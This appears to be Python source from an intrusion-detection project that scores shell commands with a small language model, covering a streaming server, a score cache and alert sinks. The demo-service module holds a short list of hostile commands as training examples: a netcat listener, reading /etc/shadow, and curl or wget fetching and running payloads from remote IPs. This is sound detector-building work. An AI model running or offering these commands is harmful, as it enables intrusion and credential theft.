            self.metrics.record_event(latency, dropped=True, cache_hit=False)
            return DetectionResult(
                event_id=event_id,
                host=host,
                raw_line=line,
                line="",
                score=0.0,
                is_intrusion=False,
                dropped=True,
                cache_hit=False,
                latency_ms=latency,
            )

        cached = self.cache.get(normalized)
        if cached is not None:
            score, cache_hit = cached, True
        else:
            score = float(await self.batcher.submit(normalized))
            cache_hit = False

        is_intrusion = score >= self.service.threshold
        session, newly_escalated = self.sessions.observe(host, when, is_intrusion)
        if newly_escalated:
            self.metrics.escalations += 1
        alert = None
        if is_intrusion:
            alert = self._emit_alert(event_id, host, normalized, score, when, session.escalated)

        latency = (time.perf_counter() - started) * 1000.0
        self.metrics.record_event(latency, dropped=False, cache_hit=cache_hit)
        return DetectionResult(
            event_id=event_id,
            host=host,
            raw_line=line,
            line=normalized,
            score=score,
            is_intrusion=is_intrusion,
            dropped=False,
            cache_hit=cache_hit,
            latency_ms=latency,
            alert=alert,
        )

    async def submit_event(self, event: CommandEvent) -> DetectionResult:
        """Submit a :class:`CommandEvent` (record-style convenience)."""
        return await self.submit(event.line, host=event.host, timestamp=event.timestamp)

    # -- internals ---------------------------------------------------------

    def _emit_alert(
        self, event_id: int, host: str, line: str, score: float, when: float, escalated: bool
    ) -> DetectionAlert:
        self._alert_seq += 1
        alert = DetectionAlert(
            alert_id=self._alert_seq,
            event_id=event_id,
            host=host,
            line=line,
            score=score,
            severity=Severity.from_score(score, self.service.threshold),
            status=AlertStatus.ESCALATED if escalated else AlertStatus.OPEN,
            timestamp=when,
        )
        self.sinks.emit(alert)
        self.metrics.alerts += 1
        return alert

    def _score_batch(self, lines: list[str]) -> list[float]:
        """Micro-batch handler: score distinct lines once, fill the cache."""
        unique: dict[str, float] = dict.fromkeys(lines, 0.0)
        scores = self.service.score_normalized(list(unique))
        for line, score in zip(unique, scores):
            value = float(score)
            unique[line] = value
            self.cache.put(line, value)
        self.metrics.unique_scored += len(unique)
        return [unique[line] for line in lines]


def serve_stream(
    service: IntrusionDetectionService,
    events: Iterable[CommandEvent | str],
    *,
    concurrency: int = 8,
    **server_options,
) -> tuple[list[DetectionResult], DetectionServer]:
    """Drive a server over *events* with in-process async producers.

    The synchronous entry point used by ``repro-ids serve`` and the
    benchmarks: materialises *events*, fans them across *concurrency*
    producer tasks (so the micro-batcher actually sees concurrent
    traffic), and returns per-event results in input order plus the
    stopped server for metrics/sink inspection.

    ``server_options`` may be an existing ``server=`` (reused as-is,
    e.g. to measure a warm cache — no other options are allowed then),
    or keyword options for a new :class:`DetectionServer`.
    """
    if concurrency < 1:
        raise ValueError("concurrency must be >= 1")
    materialized = [
        event if isinstance(event, CommandEvent) else CommandEvent(line=event)
        for event in events
    ]
    server = server_options.pop("server", None)
    if server is not None and server_options:
        raise ValueError(
            "server= reuses an existing DetectionServer; these options would be "
            f"silently ignored: {sorted(server_options)}"
        )
    if server is None:
        server = DetectionServer(service, **server_options)

    async def _run() -> list[DetectionResult]:
        results: list[DetectionResult | None] = [None] * len(materialized)
        pending: asyncio.Queue[tuple[int, CommandEvent]] = asyncio.Queue()
        for position, event in enumerate(materialized):
            pending.put_nowait((position, event))

        async def producer() -> None:
            while True:
                try:
                    position, event = pending.get_nowait()
                except asyncio.QueueEmpty:
                    return
                results[position] = await server.submit_event(event)

        async with server:
            await asyncio.gather(*(producer() for _ in range(concurrency)))
        return [result for result in results if result is not None]

    return asyncio.run(_run()), server
