"""LRU score cache keyed by normalized command line, invalidated by model generation.

Command-line telemetry is dominated by exact repeats (SCADE reports
dedup/caching as the decisive scaling lever for command-stream anomaly
detection): once ``ls -la`` has been scored, every later occurrence can
skip tokenize + forward entirely.  The cache sits between per-event
preprocessing and the micro-batcher, so only *distinct* normalized
lines ever reach the language model.

Because the serving layer supports hot model swaps (the paper's weekly
continual-learning hand-off), every entry is stamped with the **model
generation** that produced it.  :meth:`ScoreCache.bump_generation`
atomically invalidates everything scored by the previous model, and a
late write from a batch that was already in flight when the swap landed
is rejected rather than poisoning the new generation.
"""

from __future__ import annotations

import time
from collections import OrderedDict
from collections.abc import Callable


class ScoreCache:
    """Bounded LRU map from normalized command line to intrusion score.

    Parameters
    ----------
    capacity:
        Maximum number of entries; the least-recently-used entry is
        evicted when a ``put`` would exceed it.  ``0`` disables caching
        (every ``get`` misses, ``put`` is a no-op) — useful for
        cold-path benchmarking.
    ttl_seconds:
        Optional time-to-live: an entry older than this (measured from
        the ``put`` that wrote it, **not** refreshed by lookups) is
        treated as a miss and dropped.  Time-based expiry bounds how
        long a score can drift from the live model between generation
        bumps; ``None`` (default) keeps entries until eviction or
        invalidation.
    clock:
        Monotonic time source for TTL accounting (injectable for tests).

    Hit/miss/eviction counters are maintained so serving metrics can
    report the hit rate the paper-scale deployment depends on;
    ``invalidated`` / ``stale_puts`` / ``expirations`` account for the
    generation and TTL machinery that keeps the cache honest across
    model swaps and over time.
    """

    def __init__(
        self,
        capacity: int = 4096,
        ttl_seconds: float | None = None,
        clock: Callable[[], float] = time.monotonic,
    ):
        if capacity < 0:
            raise ValueError("capacity must be >= 0")
        if ttl_seconds is not None and ttl_seconds <= 0:
            raise ValueError("ttl_seconds must be > 0 (or None to disable)")
        self.capacity = capacity
        self.ttl_seconds = ttl_seconds
        self._clock = clock
        self._entries: OrderedDict[str, tuple[float, int, float]] = OrderedDict()
        self.generation = 0
        self.hits = 0
        self.misses = 0
        self.evictions = 0
        self.invalidated = 0
        self.stale_puts = 0
        self.expirations = 0

    def __len__(self) -> int:
        return len(self._entries)

    def __contains__(self, line: str) -> bool:
        return line in self._entries

    def lookup(self, line: str) -> tuple[float, int] | None:
        """Return ``(score, generation)`` for *line*, or ``None`` on a miss.

        An entry left over from an older model generation is treated as
        a miss and dropped on the spot (defence in depth — a
        :meth:`bump_generation` already purges eagerly), as is an entry
        older than ``ttl_seconds``.
        """
        entry = self._entries.get(line)
        if entry is None:
            self.misses += 1
            return None
        score, generation, stamped_at = entry
        if generation != self.generation:
            del self._entries[line]
            self.invalidated += 1
            self.misses += 1
            return None
        if self.ttl_seconds is not None and self._clock() - stamped_at > self.ttl_seconds:
            del self._entries[line]
            self.expirations += 1
            self.misses += 1
            return None
        self._entries.move_to_end(line)
        self.hits += 1
        return score, generation

    def get(self, line: str) -> float | None:
        """Return the cached score for *line* (marking it recently used)."""
        entry = self.lookup(line)
        return None if entry is None else entry[0]

    def put(self, line: str, score: float, generation: int | None = None) -> None:
        """Insert or refresh *line*, evicting the LRU entry when full.

        *generation* is the model generation the score came from
        (default: the cache's current one).  A write stamped with a
        stale generation — a batch that was scored before a swap but
        completed after it — is rejected and counted in ``stale_puts``.
        """
        if self.capacity == 0:
            return
        generation = self.generation if generation is None else generation
        if generation != self.generation:
            self.stale_puts += 1
            return
        if line in self._entries:
            self._entries.move_to_end(line)
        self._entries[line] = (float(score), generation, self._clock())
        if len(self._entries) > self.capacity:
            self._entries.popitem(last=False)
            self.evictions += 1

    def bump_generation(self) -> int:
        """Advance the model generation, purging every existing entry.

        Returns the number of entries invalidated.  Called by
        :meth:`DetectionServer.swap_model` after the scoring backend has
        rotated, so no event is ever served a score from the retired
        model.
        """
        self.generation += 1
        purged = len(self._entries)
        self._entries.clear()
        self.invalidated += purged
        return purged

    @property
    def hit_rate(self) -> float:
        """Fraction of lookups served from cache (0 when never queried)."""
        total = self.hits + self.misses
        return self.hits / total if total else 0.0

    def clear(self) -> None:
        """Drop all entries (counters and generation are kept)."""
        self._entries.clear()
