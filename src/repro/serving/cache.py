"""LRU score cache keyed by normalized command line, invalidated by model generation.

Command-line telemetry is dominated by exact repeats (SCADE reports
dedup/caching as the decisive scaling lever for command-stream anomaly
detection): once ``ls -la`` has been scored, every later occurrence can
skip tokenize + forward entirely.  The cache sits between per-event
preprocessing and the micro-batcher, so only *distinct* normalized
lines ever reach the language model.

Because the serving layer supports hot model swaps (the paper's weekly
continual-learning hand-off), every entry is stamped with the **model
generation** that produced it.  :meth:`ScoreCache.bump_generation`
atomically invalidates everything scored by the previous model, and a
late write from a batch that was already in flight when the swap landed
is rejected rather than poisoning the new generation.

Repeats in real telemetry are Zipfian: a small hot set accounts for most
of the traffic while a long tail of one-off lines would, under plain
LRU, continually evict the hot set.  The optional **frequency-aware
admission** policy (``admission="tinylfu"``) gates inserts with a
TinyLFU-style count-min sketch: a candidate only displaces the LRU
victim when the sketch estimates the candidate is accessed *more* often,
so one-hit wonders bounce off while the hot set stays resident.
"""

from __future__ import annotations

import time
import zlib
from collections import OrderedDict
from collections.abc import Callable

import numpy as np

#: Valid admission policies: plain recency (``lru``) or the
#: frequency-gated TinyLFU sketch (``tinylfu``).
ADMISSION_POLICIES = ("lru", "tinylfu")


class FrequencySketch:
    """Count-min sketch of line access frequencies (the TinyLFU filter).

    Four hash rows of saturating 8-bit counters, sized ~4x the cache
    capacity so estimates stay sharp at the occupancy the admission gate
    cares about.  Every *sample_size* recorded accesses all counters are
    halved — the classic TinyLFU aging step that keeps the sketch a
    sliding estimate of *recent* popularity rather than an all-time one.

    Hashing is :func:`zlib.crc32` under four fixed salts: deterministic
    across processes and runs (``PYTHONHASHSEED`` never changes what the
    cache admits), and cheap enough to sit on the per-event hot path.
    """

    DEPTH = 4
    _SALTS = (0x00000000, 0x9E3779B9, 0x85EBCA6B, 0xC2B2AE35)
    _MAX = 255

    def __init__(self, capacity: int, sample_size: int | None = None):
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        width = 1024
        while width < 4 * capacity:
            width *= 2
        self._mask = width - 1
        self._rows = [bytearray(width) for _ in range(self.DEPTH)]
        self._additions = 0
        self.sample_size = sample_size if sample_size is not None else max(16 * capacity, 16_384)
        self.ages = 0

    def _indexes(self, key: str) -> list[int]:
        data = key.encode("utf-8", "surrogatepass")
        return [zlib.crc32(data, salt) & self._mask for salt in self._SALTS]

    def record(self, key: str) -> None:
        """Account one access of *key* (aging the sketch when due)."""
        for row, index in zip(self._rows, self._indexes(key)):
            if row[index] < self._MAX:
                row[index] += 1
        self._additions += 1
        if self._additions >= self.sample_size:
            self._age()

    def estimate(self, key: str) -> int:
        """Estimated recent access count of *key* (an upper bound)."""
        return min(row[index] for row, index in zip(self._rows, self._indexes(key)))

    def _age(self) -> None:
        # halve every counter in-place with one vectorized pass per row
        # (a bytearray exposes a writable buffer) — the per-byte Python
        # loop used to stall the event loop mid-stream on large caches
        for row in self._rows:
            np.frombuffer(row, dtype=np.uint8)[:] >>= 1
        self._additions //= 2
        self.ages += 1


class ScoreCache:
    """Bounded LRU map from normalized command line to intrusion score.

    Parameters
    ----------
    capacity:
        Maximum number of entries; the least-recently-used entry is
        evicted when a ``put`` would exceed it.  ``0`` disables caching
        (every ``get`` misses, ``put`` is a no-op) — useful for
        cold-path benchmarking.
    ttl_seconds:
        Optional time-to-live: an entry older than this (measured from
        the ``put`` that wrote it, **not** refreshed by lookups) is
        treated as a miss and dropped.  Time-based expiry bounds how
        long a score can drift from the live model between generation
        bumps; ``None`` (default) keeps entries until eviction or
        invalidation.
    clock:
        Monotonic time source for TTL accounting (injectable for tests).
    admission:
        ``"lru"`` (default) admits every put, evicting the LRU entry
        when full — the original behaviour.  ``"tinylfu"`` gates
        inserts with a :class:`FrequencySketch`: when the cache is
        full, a candidate line is admitted only if its estimated access
        frequency exceeds the LRU victim's, so a Zipf-tail one-off
        cannot displace a hot entry.  Rejections are counted in
        ``admission_rejections``.

    Hit/miss/eviction counters are maintained so serving metrics can
    report the hit rate the paper-scale deployment depends on;
    ``invalidated`` / ``stale_puts`` / ``expirations`` account for the
    generation and TTL machinery that keeps the cache honest across
    model swaps and over time.  ``generation_hits`` /
    ``generation_misses`` track the same hit/miss split **since the
    last generation bump** — the figures a control loop (autoscaler)
    must use, because lifetime ``hit_rate`` still reflects the purged
    pre-swap cache.
    """

    def __init__(
        self,
        capacity: int = 4096,
        ttl_seconds: float | None = None,
        clock: Callable[[], float] = time.monotonic,
        admission: str = "lru",
    ):
        if capacity < 0:
            raise ValueError("capacity must be >= 0")
        if ttl_seconds is not None and ttl_seconds <= 0:
            raise ValueError("ttl_seconds must be > 0 (or None to disable)")
        if admission not in ADMISSION_POLICIES:
            raise ValueError(
                f"admission must be one of {ADMISSION_POLICIES} (got {admission!r})"
            )
        self.capacity = capacity
        self.ttl_seconds = ttl_seconds
        self.admission = admission
        self._clock = clock
        self._entries: OrderedDict[str, tuple[float, int, float]] = OrderedDict()
        self._sketch = (
            FrequencySketch(capacity) if admission == "tinylfu" and capacity > 0 else None
        )
        self.generation = 0
        self.hits = 0
        self.misses = 0
        self.evictions = 0
        self.invalidated = 0
        self.stale_puts = 0
        self.expirations = 0
        self.admission_rejections = 0
        self.generation_hits = 0
        self.generation_misses = 0

    def __len__(self) -> int:
        return len(self._entries)

    def __contains__(self, line: str) -> bool:
        return line in self._entries

    def lookup(self, line: str) -> tuple[float, int] | None:
        """Return ``(score, generation)`` for *line*, or ``None`` on a miss.

        An entry left over from an older model generation is treated as
        a miss and dropped on the spot (defence in depth — a
        :meth:`bump_generation` already purges eagerly), as is an entry
        older than ``ttl_seconds``.  Under TinyLFU admission every
        lookup — hit or miss — also feeds the frequency sketch, which
        is what lets the admission gate recognise a line that keeps
        coming back.
        """
        if self._sketch is not None:
            self._sketch.record(line)
        entry = self._entries.get(line)
        if entry is None:
            self._miss()
            return None
        score, generation, stamped_at = entry
        if generation != self.generation:
            del self._entries[line]
            self.invalidated += 1
            self._miss()
            return None
        if self.ttl_seconds is not None and self._clock() - stamped_at > self.ttl_seconds:
            del self._entries[line]
            self.expirations += 1
            self._miss()
            return None
        self._entries.move_to_end(line)
        self.hits += 1
        self.generation_hits += 1
        return score, generation

    def _miss(self) -> None:
        self.misses += 1
        self.generation_misses += 1

    def get(self, line: str) -> float | None:
        """Return the cached score for *line* (marking it recently used)."""
        entry = self.lookup(line)
        return None if entry is None else entry[0]

    def put(self, line: str, score: float, generation: int | None = None) -> None:
        """Insert or refresh *line*, evicting the LRU entry when full.

        *generation* is the model generation the score came from
        (default: the cache's current one).  A write stamped with a
        stale generation — a batch that was scored before a swap but
        completed after it — is rejected and counted in ``stale_puts``.

        Under ``admission="tinylfu"``, a new line arriving at a full
        cache must out-score the LRU victim in the frequency sketch to
        be admitted; otherwise the put is a counted no-op
        (``admission_rejections``) and the victim stays resident.
        """
        if self.capacity == 0:
            return
        generation = self.generation if generation is None else generation
        if generation != self.generation:
            self.stale_puts += 1
            return
        if line in self._entries:
            self._entries.move_to_end(line)
        elif self._sketch is not None and len(self._entries) >= self.capacity:
            victim = next(iter(self._entries))
            if self._sketch.estimate(line) <= self._sketch.estimate(victim):
                self.admission_rejections += 1
                return
        self._entries[line] = (float(score), generation, self._clock())
        if len(self._entries) > self.capacity:
            self._entries.popitem(last=False)
            self.evictions += 1

    def bump_generation(self) -> int:
        """Advance the model generation, purging every existing entry.

        Returns the number of entries invalidated.  Called by
        :meth:`DetectionServer.swap_model` after the scoring backend has
        rotated, so no event is ever served a score from the retired
        model.  The per-generation hit/miss counters reset with the
        purge (a fresh model starts cold); the frequency sketch is
        *kept* — line popularity is a property of the traffic, not of
        the model that scored it.
        """
        self.generation += 1
        purged = len(self._entries)
        self._entries.clear()
        self.invalidated += purged
        self.generation_hits = 0
        self.generation_misses = 0
        return purged

    @property
    def hit_rate(self) -> float:
        """Fraction of lookups served from cache (0 when never queried)."""
        total = self.hits + self.misses
        return self.hits / total if total else 0.0

    @property
    def generation_hit_rate(self) -> float:
        """Hit fraction since the last generation bump (0 when unqueried).

        A hot swap purges the cache, so lifetime :attr:`hit_rate` keeps
        advertising the retired model's warmth for a while; control
        loops must read this figure instead.
        """
        total = self.generation_hits + self.generation_misses
        return self.generation_hits / total if total else 0.0

    def clear(self) -> None:
        """Drop all entries (counters and generation are kept)."""
        self._entries.clear()
