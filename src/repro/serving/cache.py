"""LRU score cache keyed by normalized command line.

Command-line telemetry is dominated by exact repeats (SCADE reports
dedup/caching as the decisive scaling lever for command-stream anomaly
detection): once ``ls -la`` has been scored, every later occurrence can
skip tokenize + forward entirely.  The cache sits between per-event
preprocessing and the micro-batcher, so only *distinct* normalized
lines ever reach the language model.
"""

from __future__ import annotations

from collections import OrderedDict


class ScoreCache:
    """Bounded LRU map from normalized command line to intrusion score.

    Parameters
    ----------
    capacity:
        Maximum number of entries; the least-recently-used entry is
        evicted when a ``put`` would exceed it.  ``0`` disables caching
        (every ``get`` misses, ``put`` is a no-op) — useful for
        cold-path benchmarking.

    Hit/miss/eviction counters are maintained so serving metrics can
    report the hit rate the paper-scale deployment depends on.
    """

    def __init__(self, capacity: int = 4096):
        if capacity < 0:
            raise ValueError("capacity must be >= 0")
        self.capacity = capacity
        self._entries: OrderedDict[str, float] = OrderedDict()
        self.hits = 0
        self.misses = 0
        self.evictions = 0

    def __len__(self) -> int:
        return len(self._entries)

    def __contains__(self, line: str) -> bool:
        return line in self._entries

    def get(self, line: str) -> float | None:
        """Return the cached score for *line* (marking it recently used)."""
        score = self._entries.get(line)
        if score is None:
            self.misses += 1
            return None
        self._entries.move_to_end(line)
        self.hits += 1
        return score

    def put(self, line: str, score: float) -> None:
        """Insert or refresh *line*, evicting the LRU entry when full."""
        if self.capacity == 0:
            return
        if line in self._entries:
            self._entries.move_to_end(line)
        self._entries[line] = float(score)
        if len(self._entries) > self.capacity:
            self._entries.popitem(last=False)
            self.evictions += 1

    @property
    def hit_rate(self) -> float:
        """Fraction of lookups served from cache (0 when never queried)."""
        total = self.hits + self.misses
        return self.hits / total if total else 0.0

    def clear(self) -> None:
        """Drop all entries (counters are kept)."""
        self._entries.clear()
