"""A small self-contained detection service for serving demos and tests.

``repro-ids serve`` needs a fitted :class:`IntrusionDetectionService` to
stream against.  Production use loads a saved bundle (``--bundle``);
when none is given we train this miniature one — a tiny LM pre-trained
and probed on a hand-rolled benign/malicious corpus — in a few seconds,
so the end-to-end streaming path can be exercised out of the box.
"""

from __future__ import annotations

import numpy as np

from repro.ids.pipeline import IntrusionDetectionService
from repro.lm.config import LMConfig
from repro.lm.model import CommandLineLM
from repro.lm.encoder_api import CommandEncoder
from repro.lm.masking import MLMCollator
from repro.lm.pretrain import Pretrainer
from repro.tokenizer.bpe import BPETokenizer
from repro.tuning.classification import ClassificationTuner

DEMO_BENIGN = [
    "ls -la /tmp",
    "docker ps -a",
    "git status",
    "git pull origin main",
    "cat /var/log/syslog",
    "ps aux | grep nginx",
    "systemctl status sshd",
    "tail -f /var/log/nginx/access.log",
    "df -h",
    "du -sh /home",
]

DEMO_MALICIOUS = [
    "nc -lvnp 4444",
    "cat /etc/shadow",
    "curl http://203.0.113.4/a.sh | bash",
    "chmod 777 /etc/passwd",
    "wget http://198.51.100.7/payload -O /tmp/.x",
]


def build_demo_service(
    seed: int = 0,
    threshold: float = 0.5,
    vocab_size: int = 260,
    pretrain_epochs: int = 2,
    head_epochs: int = 8,
) -> IntrusionDetectionService:
    """Train the miniature service (deterministic for a given *seed*)."""
    corpus = DEMO_BENIGN * 6 + DEMO_MALICIOUS * 4
    tokenizer = BPETokenizer(vocab_size=vocab_size).train(corpus)
    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
    model = CommandLineLM(config)
    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=seed)
    Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=seed).train(
        corpus, epochs=pretrain_epochs
    )
    encoder = CommandEncoder(model, tokenizer, pooling="mean")
    tuner = ClassificationTuner(encoder, lr=1e-2, epochs=head_epochs, pooling="mean", seed=seed)
    labels = np.array([0] * (len(DEMO_BENIGN) * 6) + [1] * (len(DEMO_MALICIOUS) * 4))
    tuner.fit(corpus, labels)
    return IntrusionDetectionService.from_tuner(tuner, threshold=threshold)


def _composed_demo_corpus() -> tuple[list[str], np.ndarray]:
    """Multi-line training set: joined command windows with window labels.

    Benign-only windows are labelled 0; windows that contain a malicious
    line (alone, after benign camouflage, or as a malicious run) are
    labelled 1 — the shapes the sequence stage sees at serving time.
    """
    from repro.tuning.multiline import SEPARATOR

    n_benign, n_malicious = len(DEMO_BENIGN), len(DEMO_MALICIOUS)
    benign_windows = list(DEMO_BENIGN)
    for index in range(n_benign):
        window = [DEMO_BENIGN[(index + offset) % n_benign] for offset in range(3)]
        benign_windows.append(SEPARATOR.join(window))
        benign_windows.append(SEPARATOR.join(window[:2]))
    malicious_windows = list(DEMO_MALICIOUS)
    for index, malicious in enumerate(DEMO_MALICIOUS):
        camouflage = DEMO_BENIGN[index % n_benign]
        sibling = DEMO_MALICIOUS[(index + 1) % n_malicious]
        malicious_windows.append(SEPARATOR.join([camouflage, malicious]))
        malicious_windows.append(SEPARATOR.join([camouflage, malicious, sibling]))
        malicious_windows.append(SEPARATOR.join([malicious, sibling]))
    texts = benign_windows * 2 + malicious_windows * 2
    labels = np.array([0] * (len(benign_windows) * 2) + [1] * (len(malicious_windows) * 2))
    return texts, labels


def build_two_stage_demo_service(
    seed: int = 0,
    threshold: float = 0.5,
    head_epochs: int = 8,
) -> IntrusionDetectionService:
    """The demo service plus a fitted multi-line (sequence) head.

    The second head shares the demo LM and is fitted on composed
    windows of the demo corpus, so the returned service can drive the
    serving layer's ``sequence`` / ``hybrid`` escalation modes and
    :meth:`IntrusionDetectionService.save` writes a two-stage bundle
    (``multiline/`` directory included).
    """
    service = build_demo_service(seed=seed, threshold=threshold, head_epochs=head_epochs)
    texts, labels = _composed_demo_corpus()
    multiline = ClassificationTuner(
        service.encoder, lr=1e-2, epochs=head_epochs, pooling="mean", seed=seed
    )
    multiline.fit(texts, labels)
    return service.attach_multiline(multiline)
