"""A small self-contained detection service for serving demos and tests.

``repro-ids serve`` needs a fitted :class:`IntrusionDetectionService` to
stream against.  Production use loads a saved bundle (``--bundle``);
when none is given we train this miniature one — a tiny LM pre-trained
and probed on a hand-rolled benign/malicious corpus — in a few seconds,
so the end-to-end streaming path can be exercised out of the box.
"""

from __future__ import annotations

import numpy as np

from repro.ids.pipeline import IntrusionDetectionService
from repro.lm.config import LMConfig
from repro.lm.model import CommandLineLM
from repro.lm.encoder_api import CommandEncoder
from repro.lm.masking import MLMCollator
from repro.lm.pretrain import Pretrainer
from repro.tokenizer.bpe import BPETokenizer
from repro.tuning.classification import ClassificationTuner

DEMO_BENIGN = [
    "ls -la /tmp",
    "docker ps -a",
    "git status",
    "git pull origin main",
    "cat /var/log/syslog",
    "ps aux | grep nginx",
    "systemctl status sshd",
    "tail -f /var/log/nginx/access.log",
    "df -h",
    "du -sh /home",
]

DEMO_MALICIOUS = [
    "nc -lvnp 4444",
    "cat /etc/shadow",
    "curl http://203.0.113.4/a.sh | bash",
    "chmod 777 /etc/passwd",
    "wget http://198.51.100.7/payload -O /tmp/.x",
]


def build_demo_service(
    seed: int = 0,
    threshold: float = 0.5,
    vocab_size: int = 260,
    pretrain_epochs: int = 2,
    head_epochs: int = 8,
) -> IntrusionDetectionService:
    """Train the miniature service (deterministic for a given *seed*)."""
    corpus = DEMO_BENIGN * 6 + DEMO_MALICIOUS * 4
    tokenizer = BPETokenizer(vocab_size=vocab_size).train(corpus)
    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
    model = CommandLineLM(config)
    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=seed)
    Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=seed).train(
        corpus, epochs=pretrain_epochs
    )
    encoder = CommandEncoder(model, tokenizer, pooling="mean")
    tuner = ClassificationTuner(encoder, lr=1e-2, epochs=head_epochs, pooling="mean", seed=seed)
    labels = np.array([0] * (len(DEMO_BENIGN) * 6) + [1] * (len(DEMO_MALICIOUS) * 4))
    tuner.fit(corpus, labels)
    return IntrusionDetectionService.from_tuner(tuner, threshold=threshold)
