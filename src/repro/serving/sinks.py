"""Pluggable alert sinks: where confirmed detections go.

Sinks speak a batch-first, lifecycle-aware protocol —
:meth:`AlertSink.open` / :meth:`AlertSink.emit_many` /
:meth:`AlertSink.flush` / :meth:`AlertSink.close` — so durable
transports (files, webhooks, sockets) can amortise per-alert overhead
and make their persistence guarantees explicit.  Legacy sinks that only
implement per-alert :meth:`AlertSink.emit` keep working: the base class
maps ``emit_many`` onto ``emit``, and duck-typed objects are wrapped by
:func:`ensure_sink`.

Unlike the v1 protocol, a sink **may raise** from ``emit_many``: the
:class:`~repro.serving.delivery.DeliveryPipeline` that drives sinks in
the serving path turns failures into retries, backpressure, and
dead-letters per its :class:`~repro.serving.config.DeliveryPolicy`.

Sinks are also constructible from URI strings via the
:class:`SinkRegistry` (``ring://1024``, ``jsonl:///var/alerts.jsonl``,
``webhook://siem:8080/alerts``, ``tcp://collector:9000``), which is how
a declarative :class:`~repro.serving.config.ServingConfig` or a
``--sink`` CLI flag names its sinks.
"""

from __future__ import annotations

import json
import socket
import time
import urllib.parse
import urllib.request
from collections import deque
from collections.abc import Callable, Sequence
from pathlib import Path

from repro.errors import ConfigError
from repro.serving.events import DetectionAlert


class AlertSink:
    """Base class: receive alert batches, with an explicit lifecycle.

    Subclasses override *either* :meth:`emit` (simple per-alert sinks;
    the default :meth:`emit_many` loops over it) *or* :meth:`emit_many`
    (batch transports, which should then implement :meth:`emit` as
    ``self.emit_many([alert])``).  ``open``/``flush``/``close`` default
    to no-ops.
    """

    def open(self) -> None:
        """Acquire resources (connections, file handles) up front."""

    def emit(self, alert: DetectionAlert) -> None:
        """Deliver one alert."""
        raise NotImplementedError

    def emit_many(self, alerts: Sequence[DetectionAlert]) -> None:
        """Deliver a batch of alerts (default: one :meth:`emit` each).

        May raise: the delivery pipeline retries/dead-letters the whole
        batch on failure.
        """
        for alert in alerts:
            self.emit(alert)

    def flush(self) -> None:
        """Push buffered alerts to durable storage (default: nothing)."""

    def close(self) -> None:
        """Release any resources (default: nothing to do)."""


class RingBufferSink(AlertSink):
    """Keep the most recent *capacity* alerts in memory."""

    def __init__(self, capacity: int = 1024):
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        self._ring: deque[DetectionAlert] = deque(maxlen=capacity)
        self.emitted = 0

    def emit(self, alert: DetectionAlert) -> None:
        self._ring.append(alert)
        self.emitted += 1

    @property
    def alerts(self) -> list[DetectionAlert]:
        """Buffered alerts, oldest first."""
        return list(self._ring)


class JsonlSink(AlertSink):
    """Append alerts to a JSON-lines file (one object per alert).

    Every emitted batch is flushed to the OS before returning, so an
    alert acknowledged by this sink survives a crash of the serving
    process (the file handle is opened lazily on first use and in
    append mode, so restarts extend the same log).
    """

    def __init__(self, path: str | Path):
        self.path = Path(path)
        self._handle = None
        self.emitted = 0

    def open(self) -> None:
        self._ensure_handle()

    def _ensure_handle(self):
        if self._handle is None:
            self.path.parent.mkdir(parents=True, exist_ok=True)
            self._handle = self.path.open("a", encoding="utf-8")
        return self._handle

    def emit(self, alert: DetectionAlert) -> None:
        self.emit_many([alert])

    def emit_many(self, alerts: Sequence[DetectionAlert]) -> None:
        if not alerts:
            return
        handle = self._ensure_handle()
        for alert in alerts:
            handle.write(json.dumps(alert.to_json()) + "\n")
        handle.flush()
        self.emitted += len(alerts)

    def flush(self) -> None:
        if self._handle is not None:
            self._handle.flush()

    def close(self) -> None:
        if self._handle is not None:
            self._handle.close()
            self._handle = None


class CallbackSink(AlertSink):
    """Invoke ``callback(alert)`` for every alert."""

    def __init__(self, callback: Callable[[DetectionAlert], None]):
        self._callback = callback
        self.emitted = 0

    def emit(self, alert: DetectionAlert) -> None:
        self._callback(alert)
        self.emitted += 1


class WebhookSink(AlertSink):
    """POST alert batches as a JSON array to an HTTP endpoint (stdlib only).

    One request per :meth:`emit_many` batch; the body is
    ``[alert.to_json(), ...]``.  Any HTTP error or timeout raises, which
    the delivery pipeline converts into retry-with-backoff and,
    ultimately, a dead-letter.
    """

    def __init__(self, url: str, *, timeout: float = 5.0):
        self.url = url
        self.timeout = timeout
        self.emitted = 0
        self.requests = 0

    def emit(self, alert: DetectionAlert) -> None:
        self.emit_many([alert])

    def emit_many(self, alerts: Sequence[DetectionAlert]) -> None:
        if not alerts:
            return
        body = json.dumps([alert.to_json() for alert in alerts]).encode("utf-8")
        request = urllib.request.Request(
            self.url,
            data=body,
            headers={"Content-Type": "application/json"},
            method="POST",
        )
        self.requests += 1
        with urllib.request.urlopen(request, timeout=self.timeout) as response:
            response.read()
        self.emitted += len(alerts)


class TcpSocketSink(AlertSink):
    """Stream newline-delimited alert JSON over a TCP connection.

    The connection is established lazily (or eagerly via :meth:`open`)
    and **re-established with capped exponential backoff** when a send
    hits a broken pipe, a reset, or a refused reconnect — a collector
    that flaps (restarts, briefly refuses) costs retries inside the
    sink, not a failed batch.  Only after ``max_attempts`` consecutive
    failures does the batch raise, handing the still-intact batch to
    the delivery pipeline for *its* retry/dead-letter policy.

    ``reconnects`` counts re-established connections (observability for
    the flap itself, which a successful batch would otherwise hide).
    """

    def __init__(
        self,
        host: str,
        port: int,
        *,
        timeout: float = 5.0,
        max_attempts: int = 4,
        backoff_ms: float = 25.0,
        backoff_multiplier: float = 2.0,
        max_backoff_ms: float = 1000.0,
    ):
        if max_attempts < 1:
            raise ValueError("max_attempts must be >= 1")
        self.host = host
        self.port = int(port)
        self.timeout = timeout
        self.max_attempts = max_attempts
        self.backoff_ms = backoff_ms
        self.backoff_multiplier = backoff_multiplier
        self.max_backoff_ms = max_backoff_ms
        self.emitted = 0
        self.reconnects = 0
        self._sock: socket.socket | None = None

    def open(self) -> None:
        self._connect()

    def _connect(self) -> socket.socket:
        if self._sock is None:
            self._sock = socket.create_connection(
                (self.host, self.port), timeout=self.timeout
            )
        return self._sock

    def emit(self, alert: DetectionAlert) -> None:
        self.emit_many([alert])

    def emit_many(self, alerts: Sequence[DetectionAlert]) -> None:
        if not alerts:
            return
        payload = "".join(
